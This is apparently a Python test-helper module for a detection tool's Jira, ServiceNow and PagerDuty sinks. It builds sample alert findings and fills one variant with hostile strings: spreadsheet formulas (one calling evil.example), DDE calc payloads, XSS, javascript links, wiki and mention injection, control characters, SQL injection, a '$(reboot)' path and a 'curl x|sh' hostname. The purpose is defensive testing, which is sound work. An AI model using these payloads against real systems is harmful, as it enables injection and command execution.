"""Helpers for the ticketing and paging sink tests (Jira, ServiceNow, PagerDuty).

A real finding from the engine (``chainwatch detect`` on the bundled samples), variants of it (another chain, a
later revision, a quarantined-app route, hostile strings everywhere), and a sink context with a real requests
session, a dict of secrets, an in-memory ticket map and a recording sleep.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import orjson
import requests

from chainwatch.app.cli import main as chainwatch_main
from chainwatch.sinks.base import Delivery, DeliveryResult, InMemoryTicketMap, RetryPolicy, SinkContext, TicketMap

ROOT = Path(__file__).resolve().parents[3]
EVENTS = ROOT / "events"

#: What an attacker can put in a path, a command line or an app name, per target syntax.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = '<script>alert(1)</script><img src=x onerror="alert(2)">'
MARKDOWN = "**bold** [click](javascript:alert(1)) ![img](http://evil.example/x.png) `tick` # head | pipe"
JIRA_WIKI = "{panel}h1. big{panel} [~accountid:5b10a2844c20165700ede21g] {code}x{code}"
ADF_JSON = '{"type":"mention","attrs":{"id":"5b10a2844c20165700ede21g","text":"@admin"}}'
SNOW_CODE = "[code]<img src=x onerror=alert(3)>[/code]"
CONTROL = "evil\x1b[31mRED\x00\r\nInjected: line\u202egnp.exe"
HUGE = "A" * 1_000_000
HOSTILE_STRINGS = (FORMULA, HTML, MARKDOWN, JIRA_WIKI, ADF_JSON, SNOW_CODE, CONTROL)


def detect_alert(tmp_dir: Path) -> dict[str, Any]:
    """Run ``chainwatch detect`` on the bundled samples and return the first alert (the mac-02 chain)."""
    out = tmp_dir / "findings.jsonl"
    assert chainwatch_main(["detect", str(EVENTS), "--all", "--out", str(out), "--no-progress"]) == 0
    findings = [orjson.loads(line) for line in out.read_bytes().splitlines() if line.strip()]
    alerts = [f for f in findings if f.get("is_alert") and f["unmapped"]["chainwatch"]["egress"]]
    assert alerts, "the bundled samples produce an alert with egress"
    return alerts[0]


def variant(document: Mapping[str, Any], finding_id: str) -> dict[str, Any]:
    """The same finding under another id (another chain)."""
    doc = copy.deepcopy(dict(document))
    doc["metadata"]["uid"] = finding_id
    doc["metadata"]["correlation_uid"] = finding_id
    doc["finding_info"]["uid"] = finding_id
    return doc


def revised(document: Mapping[str, Any]) -> dict[str, Any]:
    """The chain's next revision: a second egress, the update activity."""
    doc = copy.deepcopy(dict(document))
    doc["activity_id"], doc["activity_name"], doc["type_uid"] = 2, "Update", 200402
    cw = doc["unmapped"]["chainwatch"]
    extra = dict(cw["egress"][0])
    extra.update({"ip": "198.51.100.23", "port": 8443, "time": "2025-09-18T14:05:00.000000000Z"})
    cw["egress"].append(extra)
    cw["notes"] = ["second egress seen after the first delivery"]
    return doc


def non_alert(document: Mapping[str, Any], finding_id: str = "cw-nonalert0000000000000000000000") -> dict[str, Any]:
    doc = variant(document, finding_id)
    doc["is_alert"] = False
    doc["severity_id"], doc["severity"] = 2, "Low"
    return doc


def quarantined(document: Mapping[str, Any]) -> dict[str, Any]:
    """The quarantined-app route: a downloaded, developer-signed app opened after a Gatekeeper prompt."""
    doc = variant(document, "cw-quarantined000000000000000000000")
    cw = doc["unmapped"]["chainwatch"]
    cw["route"] = "quarantined_app"
    app_path = "/Users/alice/Downloads/Invoice Viewer.app/Contents/MacOS/Invoice Viewer"
    cw["files"] = ["/Users/alice/Downloads/Invoice Viewer.app"]
    cw["quarantine"] = ["set com.apple.quarantine on /Users/alice/Downloads/Invoice Viewer.app: agent=Safari "
                        "flags=0x0083 uuid=1F3E5C2A-9B7D-4E11-A0C4-5D6E7F809A1B user_approved=False"]
    cw["gatekeeper"] = ["2025-09-18T14:03:12.000000000Z Gatekeeper prompt path=/Users/alice/Downloads/Invoice "
                        "Viewer.app result=allowed"]
    for evidence in doc["evidences"]:
        if evidence["data"]["stage"] == 3:
            evidence["process"].update({"name": "Invoice Viewer", "path": app_path, "cmd_line": app_path})
            evidence["process"]["file"] = {"path": app_path, "name": "Invoice Viewer", "type_id": 1, "signature": {
                "algorithm_id": 99, "algorithm": "Apple code signature", "developer_uid": "ABCDE12345",
                "certificate": {"subject": "com.example.invoiceviewer", "serial_number": "x", "issuer": "ABCDE12345"}}}
    return doc


def hostile(document: Mapping[str, Any]) -> dict[str, Any]:
    """The finding with hostile markup, formulas and control characters in every attacker-controlled string, and a
    1 MB command line wherever a command line appears."""
    doc = variant(document, "cw-hostile0000000000000000000000000")
    mixed = " ".join(HOSTILE_STRINGS)
    doc["finding_info"]["title"] = FORMULA + " " + mixed
    doc["message"] = doc["finding_info"]["title"]
    doc["device"]["hostname"] = "@SUM(1+1)*cmd|' /C calc'!A0 " + HTML
    for evidence in doc["evidences"]:
        process = evidence.get("process")
        if process:
            process["cmd_line"] = "-" + mixed + HUGE
            process["name"] = MARKDOWN
            process["path"] = CONTROL + HTML
    cw = doc["unmapped"]["chainwatch"]
    for node in cw["process_tree"]:
        node["cmd_line"] = "+" + mixed + " " + HUGE
        node["path"] = "/tmp/" + JIRA_WIKI
    for entry in cw["timeline"]:
        entry["text"] = mixed + HUGE
        entry["raw_ref"] = SNOW_CODE
    cw["timeline"] = cw["timeline"] * 400  # 2 000 rows
    cw["files"] = list(HOSTILE_STRINGS) + [f"/tmp/f{i}" for i in range(500)]
    cw["reasons"] = [FORMULA, ADF_JSON]
    cw["links"][0]["reason"] = SNOW_CODE + MARKDOWN
    cw["notes"] = [HTML, JIRA_WIKI]
    cw["story"] = "=cmd|'/C calc'!A0\n" + HUGE + "\n" + CONTROL
    cw["quarantine"] = [CONTROL + HTML, "set com.apple.quarantine on /tmp/$(reboot).app: agent=" + MARKDOWN
                        + " flags=0x0083 uuid=' OR 1=1 -- user_approved=False"]
    cw["gatekeeper"] = [SNOW_CODE]
    for entry in cw["egress"]:
        entry["hostname"] = "evil.example`; curl x|sh`" + MARKDOWN
        entry["process"] = HTML
    return doc


def deliveries(*docs: Mapping[str, Any], revision: int = 1, canary: bool = False) -> list[Delivery]:
    return [Delivery(str(doc["finding_info"]["uid"]), revision, doc, canary=canary) for doc in docs]


class Sleeps(list[float]):
    """The injected sleep: records each delay instead of waiting."""

    def __call__(self, seconds: float) -> None:
        self.append(seconds)


def make_context(secrets: Mapping[str, Any], *, max_attempts: int = 4, ticket_map: TicketMap | None = None,
                 remaining: Callable[[], float] | None = None, timeout: float = 5.0) -> tuple[SinkContext, Sleeps]:
    """A sink context with a real requests session, a dict of secrets and a recording sleep."""
    sleeps = Sleeps()

    def secret(name: str) -> Any:
        return secrets[name]

    policy = RetryPolicy(max_attempts=max_attempts, base_delay=0.5, max_delay=20.0, sleep=sleeps,
                         rng=random.Random(7), remaining=remaining or (lambda: float("inf")))
    context = SinkContext(session=requests.Session(), secret=secret, ticket_map=ticket_map or InMemoryTicketMap(),
                          retry=policy, timeout=timeout)
    return context, sleeps


def assert_secret_absent(secrets: Iterable[str], results: Iterable[DeliveryResult], log_text: str = "") -> None:
    """No secret (nor its Basic-auth encoding) in any result field or log line."""
    import base64

    blob = json.dumps([r.__dict__ for r in results], default=str) + log_text
    for secret in secrets:
        assert secret not in blob
        assert base64.b64encode(secret.encode()).decode() not in blob
